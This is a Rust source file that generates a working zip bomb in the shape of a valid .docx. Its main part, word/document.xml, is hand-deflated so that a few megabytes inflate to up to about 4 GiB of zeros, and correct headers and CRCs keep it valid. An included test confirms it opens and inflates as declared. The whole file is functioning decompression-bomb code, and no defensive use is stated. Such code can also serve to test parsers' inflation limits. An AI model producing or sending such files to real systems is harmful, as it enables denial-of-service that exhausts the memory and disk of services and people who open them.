//! A zip bomb in the shape of a Word document: `word/document.xml` is `inflated` bytes
//! of zeros, deflated by hand as one fixed-Huffman block of a literal and repeated
//! 258-byte matches (13 bits each), so a gigabyte takes about 6.5 MB and no time to
//! make. The headers are honest (sizes, CRC-32): the bomb is a valid file.

/// Bits written least significant first, as deflate wants.
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    len: u32,
}

impl Bits {
    fn put(&mut self, value: u64, count: u32) {
        self.acc |= value << self.len;
        self.len += count;
        while self.len >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.len -= 8;
        }
    }

    /// A Huffman code, which deflate writes most significant bit first.
    fn code(&mut self, code: u64, count: u32) {
        let reversed = (0..count).fold(0, |r, i| (r << 1) | ((code >> i) & 1));
        self.put(reversed, count);
    }

    fn finish(mut self) -> Vec<u8> {
        if self.len > 0 {
            self.out.push(self.acc as u8);
        }
        self.out
    }
}

/// `inflated` zeros (one literal, then matches of 258 at distance 1), deflated.
fn deflated_zeros(inflated: u64) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(1, 1); // the final block
    bits.put(1, 2); // fixed Huffman codes
    bits.code(0b0011_0000, 8); // literal 0
    let mut left = inflated - 1;
    while left >= 258 + 3 || left == 258 {
        bits.code(0b1100_0101, 8); // length 258 (code 285)
        bits.code(0, 5); // distance 1
        left -= 258;
    }
    for _ in 0..left {
        bits.code(0b0011_0000, 8);
    }
    bits.code(0, 7); // end of block (code 256)
    bits.finish()
}

fn entry(name: &str, data: &[u8], inflated: u64, crc: u32, method: u16) -> (Vec<u8>, Vec<u8>) {
    let mut local = Vec::new();
    local.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
    local.extend_from_slice(&20u16.to_le_bytes()); // version needed
    local.extend_from_slice(&0u16.to_le_bytes()); // flags
    local.extend_from_slice(&method.to_le_bytes());
    local.extend_from_slice(&0u32.to_le_bytes()); // time and date
    local.extend_from_slice(&crc.to_le_bytes());
    local.extend_from_slice(&(data.len() as u32).to_le_bytes());
    local.extend_from_slice(&(inflated as u32).to_le_bytes());
    local.extend_from_slice(&(name.len() as u16).to_le_bytes());
    local.extend_from_slice(&0u16.to_le_bytes());
    local.extend_from_slice(name.as_bytes());
    local.extend_from_slice(data);
    let mut central = Vec::new();
    central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
    central.extend_from_slice(&20u16.to_le_bytes()); // made by
    central.extend_from_slice(&20u16.to_le_bytes()); // needed
    central.extend_from_slice(&0u16.to_le_bytes());
    central.extend_from_slice(&method.to_le_bytes());
    central.extend_from_slice(&0u32.to_le_bytes());
    central.extend_from_slice(&crc.to_le_bytes());
    central.extend_from_slice(&(data.len() as u32).to_le_bytes());
    central.extend_from_slice(&(inflated as u32).to_le_bytes());
    central.extend_from_slice(&(name.len() as u16).to_le_bytes());
    central.extend_from_slice(&[0; 12]); // extra, comment, disk, attributes
    (local, central)
}

/// A .docx whose main text inflates to `inflated` bytes (under 4 GiB: no zip64).
pub fn docx_bomb(inflated: u64) -> Vec<u8> {
    assert!(inflated < u64::from(u32::MAX));
    let types = br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    let mut hasher = crc32fast::Hasher::new();
    let zeros = vec![0u8; 1 << 20];
    let mut left = inflated;
    while left > 0 {
        let n = left.min(zeros.len() as u64) as usize;
        hasher.update(&zeros[..n]);
        left -= n as u64;
    }
    let parts = [
        (
            "[Content_Types].xml",
            types.to_vec(),
            types.len() as u64,
            crc32fast::hash(types),
            0u16,
        ),
        (
            "word/document.xml",
            deflated_zeros(inflated),
            inflated,
            hasher.finalize(),
            8u16,
        ),
    ];
    let mut file = Vec::new();
    let mut directory = Vec::new();
    for (name, data, size, crc, method) in parts {
        let offset = file.len() as u32;
        let (local, mut central) = entry(name, &data, size, crc, method);
        file.extend_from_slice(&local);
        // The central record ends with the local header's offset, then the name.
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
        directory.extend_from_slice(&central);
    }
    let start = file.len() as u32;
    file.extend_from_slice(&directory);
    file.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    file.extend_from_slice(&[0; 4]); // disk numbers
    file.extend_from_slice(&2u16.to_le_bytes());
    file.extend_from_slice(&2u16.to_le_bytes());
    file.extend_from_slice(&(directory.len() as u32).to_le_bytes());
    file.extend_from_slice(&start.to_le_bytes());
    file.extend_from_slice(&0u16.to_le_bytes());
    file
}

#[test]
fn the_bomb_is_a_valid_docx_that_inflates_as_declared() {
    use std::io::Read;
    let bomb = docx_bomb(10_000_000);
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bomb)).expect("a valid zip");
    let mut text = zip.by_name("word/document.xml").expect("the main part");
    let mut inflated = Vec::new();
    text.read_to_end(&mut inflated)
        .expect("inflates, CRC checked");
    assert_eq!(inflated.len(), 10_000_000);
    assert!(inflated.iter().all(|b| *b == 0));
}
